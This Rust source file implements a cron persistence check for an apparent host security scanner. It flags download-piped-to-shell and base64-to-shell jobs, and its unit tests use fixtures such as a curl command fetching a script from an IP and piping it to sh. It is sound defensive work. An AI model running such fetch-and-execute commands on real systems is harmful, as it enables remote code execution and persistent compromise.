//! Cron persistence check.

use std::path::Path;

use async_trait::async_trait;

use super::{Category, Check, CheckContext};
use crate::collectors::cron::{self, CronEntry};
use crate::evidence::EvidenceBuilder;
use crate::report::{CheckDetail, CheckResult, CheckStatus, RiskLevel};

/// Reviews scheduled jobs for the download-and-execute and scratch-space
/// patterns attackers use for persistence.
pub struct CronJobsCheck;

/// True for `curl ... | sh` style pipelines.
fn pipes_download_to_shell(command: &str) -> bool {
    let has_downloader = command.contains("curl ") || command.contains("wget ");
    let pipes_to_shell = command.contains("| sh")
        || command.contains("|sh")
        || command.contains("| bash")
        || command.contains("|bash");
    has_downloader && pipes_to_shell
}

fn decodes_to_shell(command: &str) -> bool {
    command.contains("base64") && (command.contains("| sh") || command.contains("| bash"))
}

fn runs_from_scratch_space(command: &str) -> bool {
    ["/tmp/", "/var/tmp/", "/dev/shm/"]
        .iter()
        .any(|prefix| command.contains(prefix))
}

fn evidence_for(entry: &CronEntry, risk: RiskLevel) -> Option<crate::report::Evidence> {
    let builder = EvidenceBuilder::new(risk);
    if entry.source.starts_with('/') {
        builder.file_path_only(Path::new(&entry.source)).build()
    } else {
        builder
            .process_tree(vec![format!("{} {}", entry.schedule, entry.command)])
            .build()
    }
}

fn evaluate_cron_entries(entries: &[CronEntry]) -> Vec<CheckDetail> {
    let mut details = Vec::new();

    for (index, entry) in entries.iter().enumerate() {
        if pipes_download_to_shell(&entry.command) || decodes_to_shell(&entry.command) {
            details.push(
                CheckDetail::new(
                    format!("pipe_to_shell_{index}"),
                    CheckStatus::Fail,
                    format!(
                        "{} pipes a download into a shell as {}: {}",
                        entry.source, entry.user, entry.command
                    ),
                )
                .with_evidence(evidence_for(entry, RiskLevel::High)),
            );
        } else if runs_from_scratch_space(&entry.command) {
            details.push(
                CheckDetail::new(
                    format!("scratch_space_{index}"),
                    CheckStatus::Warn,
                    format!(
                        "{} runs from a world-writable directory: {}",
                        entry.source, entry.command
                    ),
                )
                .with_evidence(evidence_for(entry, RiskLevel::Medium)),
            );
        }
    }

    if details.is_empty() {
        details.push(CheckDetail::new(
            "cron_entries",
            CheckStatus::Pass,
            format!("{} cron entries reviewed, none suspicious", entries.len()),
        ));
    }

    details
}

#[async_trait]
impl Check for CronJobsCheck {
    fn category(&self) -> Category {
        Category::CronJobs
    }

    async fn run(&self, ctx: &CheckContext) -> CheckResult {
        let entries = cron::collect(&ctx.runner).await;
        if ctx.cancel.is_cancelled() {
            return CheckResult::skip(self.category(), "cancelled");
        }
        CheckResult::from_details(
            self.category(),
            "scheduled job review",
            evaluate_cron_entries(&entries),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn entry(source: &str, command: &str) -> CronEntry {
        CronEntry {
            source: source.to_string(),
            schedule: "* * * * *".to_string(),
            user: "root".to_string(),
            command: command.to_string(),
        }
    }

    #[test]
    fn test_download_pipe_fails() {
        let entries = vec![entry(
            "/etc/cron.d/update",
            "curl -fsSL http://203.0.113.9/x.sh | sh",
        )];
        let details = evaluate_cron_entries(&entries);
        assert_eq!(details[0].status, CheckStatus::Fail);
        assert_eq!(
            details[0].evidence.as_ref().unwrap().file_path.as_deref(),
            Some("/etc/cron.d/update")
        );
    }

    #[test]
    fn test_base64_pipe_fails() {
        let entries = vec![entry("crontab:root", "echo aGkK | base64 -d | bash")];
        let details = evaluate_cron_entries(&entries);
        assert_eq!(details[0].status, CheckStatus::Fail);
        // Per-user tables have no file path, the entry itself is the context
        assert!(details[0].evidence.as_ref().unwrap().process_tree.is_some());
    }

    #[test]
    fn test_scratch_space_warns() {
        let entries = vec![entry("/etc/crontab", "/tmp/agent --daemon")];
        let details = evaluate_cron_entries(&entries);
        assert_eq!(details[0].status, CheckStatus::Warn);
    }

    #[test]
    fn test_routine_jobs_pass() {
        let entries = vec![
            entry("/etc/crontab", "cd / && run-parts --report /etc/cron.hourly"),
            entry("crontab:alice", "/home/alice/bin/backup.sh"),
        ];
        let details = evaluate_cron_entries(&entries);
        assert_eq!(details.len(), 1);
        assert_eq!(details[0].status, CheckStatus::Pass);
    }

    #[test]
    fn test_empty_inventory_passes() {
        let details = evaluate_cron_entries(&[]);
        assert_eq!(details[0].status, CheckStatus::Pass);
    }
}
